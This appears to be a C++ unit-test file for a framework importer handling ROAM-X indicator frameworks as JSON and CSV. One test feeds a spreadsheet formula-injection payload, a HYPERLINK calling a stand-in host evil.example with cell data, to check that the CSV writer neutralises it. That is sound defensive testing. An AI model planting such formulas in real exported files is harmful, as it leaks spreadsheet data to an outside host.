// Framework files as operators write them: the shipped sample in both
// formats, round trips, and golden error reports for a set of bad files
// (tests/frameworks/bad/NAME and the expected report NAME.errors).
//
// To regenerate the expected files after a deliberate change of a message or
// of the sample JSON:
//   KENES_REGENERATE_GOLDEN=1 build/release/consultation/kenes_consultation_tests --gtest_filter='FrameworkImport*'
// then review the diff (git diff tests/frameworks consultation/frameworks).

#include "consultation/framework_import.h"
#include "consultation/csv.h"

#include <google/protobuf/util/message_differencer.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace kenes::consultation {
namespace {

namespace fs = std::filesystem;
using google::protobuf::util::MessageDifferencer;

const fs::path kSource = KENES_SOURCE_DIR;

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

bool regenerate() { return std::getenv("KENES_REGENERATE_GOLDEN") != nullptr; }

// Compares `actual` with the committed file, or rewrites the file.
void expect_golden(const fs::path& path, const std::string& actual) {
  if (regenerate()) {
    std::ofstream(path, std::ios::binary) << actual;
    return;
  }
  ASSERT_TRUE(fs::exists(path)) << path << " is missing; run with KENES_REGENERATE_GOLDEN=1";
  EXPECT_EQ(read_file(path), actual) << "differs from " << path;
}

std::string report(const FrameworkImport& imported) {
  std::string out;
  for (const auto& e : imported.errors) out += e.to_string() + "\n";
  if (imported.more_errors) out += "... and " + std::to_string(imported.more_errors) + " more errors\n";
  for (const auto& w : imported.warnings) out += "warning: " + w.to_string() + "\n";
  return out;
}

TEST(FrameworkImportTest, TheSampleJsonImportsWithoutAnyIssue) {
  auto imported = import_framework_json(read_file(kSource / "consultation/frameworks/roamx-2019-sample.json"));
  ASSERT_TRUE(imported.ok()) << report(imported);
  EXPECT_TRUE(imported.warnings.empty()) << report(imported);
  // The real structure: C, R, O, A, M, X and the 25 themes of R, O, A, M, X
  // (6 + 5 + 6 + 3 + 5) as UNESCO published them, plus C's six groups.
  std::string ids;
  for (const auto& c : imported.framework->categories()) ids += c.id() + ":" + std::to_string(c.themes_size()) + " ";
  EXPECT_EQ(ids, "C:6 R:6 O:5 A:6 M:3 X:5 ");
  EXPECT_NE(imported.framework->source().find("ISBN 978-92-3-100314-1"), std::string::npos);
}

TEST(FrameworkImportTest, TheSampleCsvIsTheSampleJsonWrittenAsCsvAndLoadsToTheSameFramework) {
  auto json = import_framework_json(read_file(kSource / "consultation/frameworks/roamx-2019-sample.json"));
  ASSERT_TRUE(json.ok()) << report(json);
  expect_golden(kSource / "consultation/frameworks/roamx-2019-sample.csv", framework_to_csv(*json.framework));
  auto csv = import_framework_csv(read_file(kSource / "consultation/frameworks/roamx-2019-sample.csv"));
  ASSERT_TRUE(csv.ok()) << report(csv);
  EXPECT_TRUE(MessageDifferencer::Equals(*json.framework, *csv.framework))
      << json.framework->DebugString() << "\n---\n" << csv.framework->DebugString();
}

TEST(FrameworkImportTest, EveryBadFileGivesItsGoldenErrorReportAndNoFramework) {
  int files = 0;
  for (const auto& entry : fs::directory_iterator(kSource / "tests/frameworks/bad")) {
    fs::path path = entry.path();
    if (path.extension() == ".errors") continue;
    ++files;
    SCOPED_TRACE(path.filename().string());
    auto imported = import_framework(path.filename().string(), read_file(path));
    EXPECT_FALSE(imported.ok());
    EXPECT_FALSE(imported.errors.empty());
    expect_golden(path.string() + ".errors", report(imported));
  }
  EXPECT_GE(files, 10);
}

kenes::v1::Framework awkward_framework() {
  kenes::v1::Framework fw;
  fw.set_edition("Edition, with \"quotes\"");
  fw.set_source("Line one\nline two");
  auto* c = fw.add_categories();
  c->set_id("R");
  c->set_title("Права человека");
  c->add_themes()->set_id("R.0");  // a theme without questions
  c->mutable_themes(0)->set_title("Empty theme");
  auto* t = c->add_themes();
  t->set_id("R.A");
  t->set_title("Қазақ тілі, \"quoted\"");
  auto* q0 = t->add_questions();
  q0->set_id("R.A.0");
  q0->set_title("A question without indicators");
  auto* q = t->add_questions();
  q->set_id("R.A.1");
  q->set_title("Q 👍");
  auto* i = q->add_indicators();
  i->set_id("R.1");
  i->set_title("Multi\r\nline, title");
  i->set_core(true);
  i->add_sources("Law, 2019");
  i->add_sources("\"Courts\"");
  auto* j = q->add_indicators();
  j->set_id("R.2");
  j->set_title("No sources");
  auto* empty = fw.add_categories();
  empty->set_id("X");
  empty->set_title("A category without themes");
  return fw;
}

TEST(FrameworkImportTest, CsvRoundTripKeepsQuotesCommasLineBreaksUnicodeAndEmptyBranches) {
  auto fw = awkward_framework();
  std::string csv = framework_to_csv(fw);
  auto back = import_framework_csv(csv);
  ASSERT_TRUE(back.ok()) << report(back) << csv;
  EXPECT_TRUE(MessageDifferencer::Equals(fw, *back.framework)) << csv << "\n" << back.framework->DebugString();
}

// A value a spreadsheet would run as a formula is written as text (an
// apostrophe, quoted) and reads back as it was.
TEST(FrameworkImportTest, CsvNeutralisesFormulasAndReadsThemBack) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"click me\"\")\"");
  for (const char* v : {"+1", "-2", "@SUM(A1)", "\tx", "\rx"}) {
    std::string field = csv_field(v);
    EXPECT_EQ(field, "\"'" + std::string(v) + "\"") << v;
    EXPECT_EQ(csv_unneutralise(field.substr(1, field.size() - 2)), v);
  }
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a-b"), "a-b");
  EXPECT_EQ(csv_field("'=x"), "\"''=x\"");  // already looks neutralised: one more apostrophe
  EXPECT_EQ(csv_unneutralise("''=x"), "'=x");

  auto fw = awkward_framework();
  fw.mutable_categories(0)->set_title("=1+1");
  auto* theme = fw.mutable_categories(0)->mutable_themes(1);
  theme->set_title("@cmd");
  auto* ind = theme->mutable_questions(1)->mutable_indicators(0);
  ind->set_title("-minus");
  ind->add_sources("+plus");
  ind->add_sources("'=quoted");
  theme->mutable_questions(1)->mutable_indicators(1)->add_sources("''+first");  // at the start of its field
  std::string csv = framework_to_csv(fw);
  EXPECT_EQ(csv.find(",=1+1"), std::string::npos) << csv;
  auto back = import_framework_csv(csv);
  ASSERT_TRUE(back.ok()) << report(back) << csv;
  EXPECT_TRUE(MessageDifferencer::Equals(fw, *back.framework)) << csv << "\n" << back.framework->DebugString();
}

TEST(FrameworkImportTest, CsvAcceptsABomCrlfColumnsInAnyOrderAndBlankRepeatedTitles) {
  std::string csv =
      "\xEF\xBB\xBF"
      "edition,E\r\n"
      "\r\n"
      "indicator_id,core,sources,indicator_title,question_id,question_title,theme_id,theme_title,category_id,"
      "category_title\r\n"
      "R.1,Yes, a ;; b ,One,R.A.1,Q,R.A,Theme,R,Rights\r\n"
      "R.2,0,,Two,R.A.1,,R.A,,R,\r\n";
  auto imported = import_framework_csv(csv);
  ASSERT_TRUE(imported.ok()) << report(imported);
  const auto& q = imported.framework->categories(0).themes(0).questions(0);
  ASSERT_EQ(q.indicators_size(), 2);
  EXPECT_TRUE(q.indicators(0).core());
  EXPECT_EQ(q.indicators(0).sources_size(), 2);
  EXPECT_EQ(q.indicators(0).sources(1), "b");
  EXPECT_FALSE(q.indicators(1).core());
  EXPECT_EQ(imported.warnings.size(), 1u);  // no source cited
}

TEST(FrameworkImportTest, FormatIsDetectedByExtensionThenByContent) {
  EXPECT_EQ(detect_framework_format("a.JSON", "edition,E"), FrameworkFormat::kJson);
  EXPECT_EQ(detect_framework_format("a.csv", "{"), FrameworkFormat::kCsv);
  EXPECT_EQ(detect_framework_format("framework.txt", " \n\xEF\xBB\xBF{}"), FrameworkFormat::kCsv);
  EXPECT_EQ(detect_framework_format("framework.txt", "\xEF\xBB\xBF \n{}"), FrameworkFormat::kJson);
  EXPECT_EQ(detect_framework_format("-", "edition,E"), FrameworkFormat::kCsv);
}

TEST(FrameworkImportTest, ErrorsStopAtTheCapAndTheRestAreCounted) {
  std::string csv =
      "edition,E\ncategory_id,category_title,theme_id,theme_title,question_id,question_title,indicator_id,"
      "indicator_title,core,sources\n";
  for (int i = 0; i < 70; ++i) csv += "R,Rights,R.A,T,R.A.1,Q,R." + std::to_string(i) + ",Title,perhaps,\n";
  auto imported = import_framework_csv(csv);
  EXPECT_FALSE(imported.ok());
  EXPECT_EQ(imported.errors.size(), kMaxFrameworkErrors);
  EXPECT_EQ(imported.more_errors, 70 - kMaxFrameworkErrors);
  EXPECT_EQ(imported.errors[0].to_string(), "line 3, column core: \"perhaps\" is not yes/no, true/false or 1/0");
}

TEST(FrameworkImportTest, TooLargeFilesAreRefusedBeforeParsing) {
  std::string big(kMaxFrameworkFileBytes + 1, ' ');
  for (auto imported : {import_framework_json(big), import_framework_csv(big)}) {
    ASSERT_EQ(imported.errors.size(), 1u);
    EXPECT_EQ(imported.errors[0].to_string(), "the file has 4194305 bytes; a framework file may have at most 4194304");
  }
}

// ------------------------------------------------ issue 19: the framework as UNESCO publishes it

constexpr const char* kHeader =
    "category_id,category_title,theme_id,theme_title,question_id,question_title,indicator_id,indicator_title,core,"
    "sources";

TEST(FrameworkImportTest, CsvReadsQuestionTextTypeMeansOfVerificationAndGuidance) {
  std::string csv =
      "edition,E\nsource,S\n"
      "category_id,category_title,theme_id,theme_title,question_id,question_title,question_text,indicator_id,"
      "indicator_title,core,indicator_type,sources,means_of_verification,guidance\n"
      "R,Rights,R.A,Policy,R.A.1,Law,\"Is there a law, \"\"consistent\"\" with standards?\",R.1,One,yes,"
      "Institutional,Law,\"Texts of laws; court records\",\"First line.\nSecond line.\"\n"
      // The question's text left empty on its second row means "as above".
      "R,Rights,R.A,Policy,R.A.1,Law,,R.2,Two,no,QUANTITATIVE,,,\n"
      "R,Rights,R.A,Policy,R.A.1,Law,\"Is there a law, \"\"consistent\"\" with standards?\",R.3,Three,no,,,,\n"
      // A question without indicators may have its text.
      "R,Rights,R.A,Policy,R.A.2,Empty,Асқан сұрақ?,,,,,,,\n";
  auto imported = import_framework_csv(csv);
  ASSERT_TRUE(imported.ok()) << report(imported);
  EXPECT_TRUE(imported.warnings.empty()) << report(imported);
  const auto& theme = imported.framework->categories(0).themes(0);
  const auto& q = theme.questions(0);
  EXPECT_EQ(q.text(), "Is there a law, \"consistent\" with standards?");
  EXPECT_EQ(theme.questions(1).text(), "Асқан сұрақ?");
  ASSERT_EQ(q.indicators_size(), 3);
  EXPECT_EQ(q.indicators(0).type(), kenes::v1::INDICATOR_TYPE_INSTITUTIONAL);
  EXPECT_EQ(q.indicators(0).means_of_verification(), "Texts of laws; court records");
  EXPECT_EQ(q.indicators(0).guidance(), "First line.\nSecond line.");
  EXPECT_EQ(q.indicators(1).type(), kenes::v1::INDICATOR_TYPE_QUANTITATIVE);
  EXPECT_EQ(q.indicators(2).type(), kenes::v1::INDICATOR_TYPE_UNSPECIFIED);
  EXPECT_EQ(q.indicators(2).guidance(), "");
}

TEST(FrameworkImportTest, AnOlderCsvWithoutTheNewColumnsStillImports) {
  auto imported = import_framework_csv(std::string("edition,E\nsource,S\n") + kHeader + "\nR,Rights,R.A,P,R.A.1,Q,R.1,One,yes,Law\n");
  ASSERT_TRUE(imported.ok()) << report(imported);
  EXPECT_TRUE(imported.warnings.empty()) << report(imported);
  EXPECT_EQ(imported.framework->categories(0).themes(0).questions(0).indicators(0).sources(0), "Law");
}

TEST(FrameworkImportTest, UnknownCsvColumnsAreKeptPerIndicatorWithOneWarningEach) {
  std::string csv = std::string("edition,E\nsource,S\n") + "Page," + kHeader +
                    ",Guidance,National code,Empty\n"
                    "12,R,Rights,R.A,P,R.A.1,Q,R.1,One,yes,Law,Read the law first.,KZ-R1,\n"
                    ",R,Rights,R.A,P,R.A.1,Q,R.2,Two,no,, ,KZ-R2,\n"
                    // A question without indicators: its extra cells are empty.
                    ",R,Rights,R.A,P,R.A.2,Q2,,,,,,,\n";
  auto imported = import_framework_csv(csv);
  ASSERT_TRUE(imported.ok()) << report(imported);
  const auto& q = imported.framework->categories(0).themes(0).questions(0);
  ASSERT_EQ(q.indicators(0).extras_size(), 3);
  EXPECT_EQ(q.indicators(0).extras(0).name(), "Page");
  EXPECT_EQ(q.indicators(0).extras(0).value(), "12");
  EXPECT_EQ(q.indicators(0).extras(1).name(), "Guidance");
  EXPECT_EQ(q.indicators(0).extras(1).value(), "Read the law first.");
  EXPECT_EQ(q.indicators(0).extras(2).name(), "National code");
  // Empty cells are not kept.
  ASSERT_EQ(q.indicators(1).extras_size(), 1);
  EXPECT_EQ(q.indicators(1).extras(0).value(), "KZ-R2");
  EXPECT_EQ(report(imported),
            "warning: line 3: unknown column \"Page\": kept as an extra value of 1 indicator\n"
            "warning: line 3: unknown column \"Guidance\": kept as an extra value of 1 indicator (did you mean "
            "guidance?)\n"
            "warning: line 3: unknown column \"National code\": kept as an extra value of 2 indicators\n"
            "warning: line 3: unknown column \"Empty\": empty everywhere, nothing kept\n");

  // Written back as columns after Kenes's own, and read back the same.
  std::string again = framework_to_csv(*imported.framework);
  EXPECT_NE(again.find("means_of_verification,guidance,Page,Guidance,National code\n"), std::string::npos) << again;
  auto back = import_framework_csv(again);
  ASSERT_TRUE(back.ok()) << report(back);
  EXPECT_TRUE(MessageDifferencer::Equals(*imported.framework, *back.framework)) << again;
}

TEST(FrameworkImportTest, UnknownJsonIndicatorFieldsAreKeptAndWarnedOtherLevelsStillRefuse) {
  std::string json = R"({"edition": "E", "source": "S", "categories": [{"id": "R", "title": "Rights", "themes": [
    {"id": "R.A", "title": "P", "questions": [{"id": "R.A.1", "title": "Q", "text": "Is it, \"really\"?", "indicators": [
      {"id": "R.1", "title": "One", "core": true, "type": "qualitative", "guidance": " Read. ",
       "means_of_verification": "Law; courts", "page": 12, "note": "Қазақша", "scored": false, "gone": null},
      {"id": "R.2", "title": "Two", "core": false, "note": ""}
    ]}]}]}]})";
  auto imported = import_framework_json(json);
  ASSERT_TRUE(imported.ok()) << report(imported);
  const auto& q = imported.framework->categories(0).themes(0).questions(0);
  EXPECT_EQ(q.text(), "Is it, \"really\"?");
  const auto& one = q.indicators(0);
  EXPECT_EQ(one.type(), kenes::v1::INDICATOR_TYPE_QUALITATIVE);
  EXPECT_EQ(one.guidance(), "Read.");
  EXPECT_EQ(one.means_of_verification(), "Law; courts");
  ASSERT_EQ(one.extras_size(), 3);
  EXPECT_EQ(one.extras(0).name() + "=" + one.extras(0).value(), "page=12");
  EXPECT_EQ(one.extras(1).name() + "=" + one.extras(1).value(), "note=Қазақша");
  EXPECT_EQ(one.extras(2).name() + "=" + one.extras(2).value(), "scored=false");
  EXPECT_EQ(q.indicators(1).extras_size(), 0);
  const std::string at = "categories[0].themes[0].questions[0].indicators[0].";
  EXPECT_EQ(report(imported), "warning: " + at + "page: unknown field \"page\": kept as an extra value of 1 indicator\n" +
                                  "warning: " + at + "note: unknown field \"note\": kept as an extra value of 1 indicator\n" +
                                  "warning: " + at + "scored: unknown field \"scored\": kept as an extra value of 1 indicator\n" +
                                  "warning: " + at + "gone: unknown field \"gone\": empty everywhere, nothing kept\n");

  // Elsewhere a field Kenes does not know is still an error: a CSV file
  // could not carry it.
  auto themed = import_framework_json(R"({"edition": "E", "categories": [{"id": "R", "title": "R", "notes": "x", "themes": []}]})");
  ASSERT_FALSE(themed.ok());
  EXPECT_EQ(themed.errors[0].to_string(),
            "categories[0].notes: unknown field (expected id, title, themes; other fields are kept on indicators only)");
}

TEST(FrameworkImportTest, BadValuesOfTheNewFieldsAreErrorsWithTheirPlace) {
  std::string long_text(kMaxFrameworkTextBytes + 1, 'x');
  std::string csv = std::string("edition,E\nsource,S\n") + kHeader +
                    ",question_text,indicator_type,guidance,Note\n"
                    "R,Rights,R.A,P,R.A.1,Q,R.1,One,yes,,First text,quantitive,,\n"
                    "R,Rights,R.A,P,R.A.1,Q,R.2,Two,yes,,Another text,,," + long_text + "\n"
                    "R,Rights,R.A,P,,,,,,,Text without a question,,,\n"
                    "R,Rights,R.A,P,R.A.1,Q,,,,,,,,Note without an indicator\n"
                    "R,Rights,R.A,P,R.A.1,Q,R.3,Three,no,,,,\"" + long_text + "\",\n";
  auto imported = import_framework_csv(csv);
  ASSERT_FALSE(imported.ok());
  EXPECT_EQ(report(imported),
            "line 4, column indicator_type: \"quantitive\" is not quantitative, qualitative or institutional (or empty)\n"
            "line 5, column question_text: \"Another text\" differs from the text of question \"R.A.1\" on line 4; "
            "leave it empty or repeat it exactly\n"
            "line 5, column Note: the value is longer than 20000 bytes\n"
            "line 6, column question_text: given, but the row has no question_id\n"
            "line 7, column Note: given, but the row has no indicator_id\n"
            "line 8, column guidance: the guidance is longer than 20000 bytes\n"
            "warning: line 3: unknown column \"Note\": kept as an extra value of 1 indicator\n");

  auto bad_header = import_framework_csv(std::string("edition,E\n") + kHeader + ",Note,,note2,Note\n");
  EXPECT_EQ(report(bad_header),
            "line 2: a column or field without a name\n"
            "line 2: column \"Note\" appears twice in the header\n");

  std::string many = std::string("edition,E\n") + kHeader;
  for (std::size_t i = 0; i <= kMaxFrameworkExtraNames; ++i) many += ",x" + std::to_string(i);
  auto too_many = import_framework_csv(many + "\n");
  ASSERT_EQ(too_many.errors.size(), 1u) << report(too_many);
  EXPECT_EQ(too_many.errors[0].to_string(),
            "line 2: more than 50 columns or fields Kenes does not know (the first is \"x0\")");

  auto json = import_framework_json(R"({"edition": "E", "categories": [{"id": "R", "title": "R", "themes": [
    {"id": "R.A", "title": "P", "questions": [{"id": "R.A.1", "title": "Q", "text": 3, "indicators": [
      {"id": "R.1", "title": "One", "core": true, "type": "mixed", "guidance": ["a"], "means_of_verification": "",
       "list": [1, 2], "": "no name"}
    ]}]}]}]})");
  ASSERT_FALSE(json.ok());
  const std::string at = "categories[0].themes[0].questions[0].";
  EXPECT_EQ(report(json),
            at + "text: expected a string, found a number\n" +
            at + "indicators[0].type: \"mixed\" is not quantitative, qualitative or institutional (or empty)\n" +
            at + "indicators[0].guidance: expected a string, found an array\n" +
            at + "indicators[0].list: expected text, a number or true/false (a field Kenes does not know is kept as "
                 "text), found an array\n" +
            at + "indicators[0]: a column or field without a name\n" +
            "warning: " + at + "indicators[0].list: unknown field \"list\": empty everywhere, nothing kept\n");
}

// A framework with the real one's shape (UNESCO 2019: contextual indicators
// and categories R, O, A, M, X; 303 indicators, 109 core), with long
// question texts holding commas, quotes, line breaks and Cyrillic. Built as
// a Framework first, then written as CSV by a writer of its own (CRLF, every
// field quoted, columns in another order, titles left empty as "as above",
// an extra column), not by framework_to_csv.
struct GeneratedFramework {
  kenes::v1::Framework framework;
  std::string csv;
};

GeneratedFramework generate_roamx_shaped_framework() {
  struct CategoryShape {
    const char* id;
    const char* title;
    int themes;
    int indicators;
    int core;
  };
  // 21 contextual, 203 in R, O, A and M, 79 cross-cutting; 109 core.
  const CategoryShape shape[] = {{"C", "Контекстные показатели", 6, 21, 6},
                                 {"R", "Rights", 6, 62, 23},
                                 {"O", "Openness", 5, 44, 16},
                                 {"A", "Accessibility to all", 6, 58, 21},
                                 {"M", "Multi-stakeholder participation", 3, 39, 14},
                                 {"X", "Cross-cutting indicators", 5, 79, 29}};
  const kenes::v1::IndicatorType types[] = {kenes::v1::INDICATOR_TYPE_QUANTITATIVE,
                                            kenes::v1::INDICATOR_TYPE_QUALITATIVE,
                                            kenes::v1::INDICATOR_TYPE_INSTITUTIONAL};
  GeneratedFramework g;
  kenes::v1::Framework& fw = g.framework;
  fw.set_edition("ROAM-X, generated for a test");
  fw.set_source("Generated: the shape of UNESCO's 2019 framework, none of its text");
  int page = 20;
  for (const auto& cs : shape) {
    auto* cat = fw.add_categories();
    cat->set_id(cs.id);
    cat->set_title(cs.title);
    int made = 0, question_no = 0;
    for (int t = 0; t < cs.themes; ++t) {
      auto* theme = cat->add_themes();
      theme->set_id(std::string(cs.id) + "." + static_cast<char>('A' + t));
      theme->set_title("Theme " + theme->id() + ", \"as published\"");
      // The category's indicators spread over its themes, one to four per question.
      int left = cs.indicators / cs.themes + (t < cs.indicators % cs.themes ? 1 : 0);
      while (left > 0) {
        auto* q = theme->add_questions();
        ++question_no;
        q->set_id(std::string(cs.id) + "." + std::to_string(question_no));
        q->set_title("Question " + q->id());
        q->set_text("Вопрос " + q->id() + ": is there a legal, regulatory and policy framework that is \"consistent\", "
                    "in law and in practice, with international standards (the UN's, the ITU's, regional bodies'), "
                    "and what do stakeholders, «гражданское общество» among them, say of it?\nSecond paragraph: " +
                    std::string(300, 'x'));
        int n = std::min(left, 1 + question_no % 4);
        left -= n;
        for (int k = 0; k < n; ++k, ++made) {
          auto* ind = q->add_indicators();
          ind->set_id(q->id() + "." + std::to_string(k + 1));  // "R.1.1"
          ind->set_title("Indicator " + ind->id() + ", with a comma");
          // Exactly cs.core of the category's indicators, spread evenly.
          ind->set_core((made + 1) * cs.core / cs.indicators != made * cs.core / cs.indicators);
          ind->set_type(types[made % 3]);
          ind->set_guidance("Line one of the guidance for " + ind->id() + ".\nЛиния 2: \"quoted\", and more.");
          ind->set_means_of_verification("Official statistics; surveys, \"reports\"");
          ind->add_sources("ITU");
          ind->add_sources("Household surveys, 2019");
          auto* extra = ind->add_extras();
          extra->set_name("Page");
          extra->set_value(std::to_string(page++));
        }
      }
    }
  }

  auto quote = [](const std::string& s) {
    std::string out = "\"";
    for (char c : s) out += c == '"' ? std::string("\"\"") : std::string(1, c);
    return out + "\"";
  };
  g.csv = "\"edition\"," + quote(fw.edition()) + "\r\n\"source\"," + quote(fw.source()) + "\r\n";
  g.csv +=
      "indicator_id,indicator_title,core,indicator_type,guidance,means_of_verification,sources,Page,question_id,"
      "question_title,question_text,theme_id,theme_title,category_id,category_title\r\n";
  for (const auto& cat : fw.categories()) {
    for (const auto& theme : cat.themes()) {
      bool first_of_theme = true;
      for (const auto& q : theme.questions()) {
        for (int k = 0; k < q.indicators_size(); ++k) {
          const auto& ind = q.indicators(k);
          std::vector<std::string> fields = {
              ind.id(), ind.title(), ind.core() ? "Yes" : "no", std::string(indicator_type_word(ind.type())),
              ind.guidance(), ind.means_of_verification(), "ITU; Household surveys, 2019", ind.extras(0).value(),
              q.id(), k == 0 ? q.title() : "", k == 0 ? q.text() : "", theme.id(),
              first_of_theme ? theme.title() : "", cat.id(), cat.title()};
          first_of_theme = false;
          for (std::size_t f = 0; f < fields.size(); ++f) g.csv += (f ? "," : "") + quote(fields[f]);
          g.csv += "\r\n";
        }
      }
    }
  }
  return g;
}

TEST(FrameworkImportTest, AGenerated303IndicatorFrameworkOfTheRealShapeImportsCleanlyAndRoundTrips) {
  GeneratedFramework g = generate_roamx_shaped_framework();
  auto imported = import_framework_csv(g.csv);
  ASSERT_TRUE(imported.ok()) << report(imported);
  // The one warning: the extra column, kept on every indicator.
  EXPECT_EQ(report(imported), "warning: line 3: unknown column \"Page\": kept as an extra value of 303 indicators\n");
  auto counts = count_framework(*imported.framework);
  EXPECT_EQ(counts.categories, 6u);
  EXPECT_EQ(counts.themes, 31u);
  EXPECT_EQ(counts.indicators, 303u);
  EXPECT_EQ(counts.core, 109u);
  EXPECT_EQ(counts.questions, count_framework(g.framework).questions);
  EXPECT_TRUE(MessageDifferencer::Equals(g.framework, *imported.framework))
      << "first indicator as imported: " << imported.framework->categories(1).themes(0).questions(0).DebugString();
  EXPECT_EQ(imported.framework->categories(1).themes(0).questions(0).indicators(0).id(), "R.1.1");
  // Well within what a framework file may be, and what the log's first record carries.
  EXPECT_LT(g.csv.size(), kMaxFrameworkFileBytes / 4);

  // framework_to_csv's form reads back to the same framework.
  std::string again = framework_to_csv(*imported.framework);
  auto back = import_framework_csv(again);
  ASSERT_TRUE(back.ok()) << report(back);
  EXPECT_TRUE(MessageDifferencer::Equals(g.framework, *back.framework));
}

TEST(FrameworkImportTest, DeepNestingIsASyntaxErrorNotACrash) {
  std::string deep(100000, '[');
  auto imported = import_framework_json(deep);
  ASSERT_FALSE(imported.ok());
  EXPECT_EQ(imported.errors[0].where.rfind("line 1, column ", 0), 0u) << report(imported);
}

}  // namespace
}  // namespace kenes::consultation
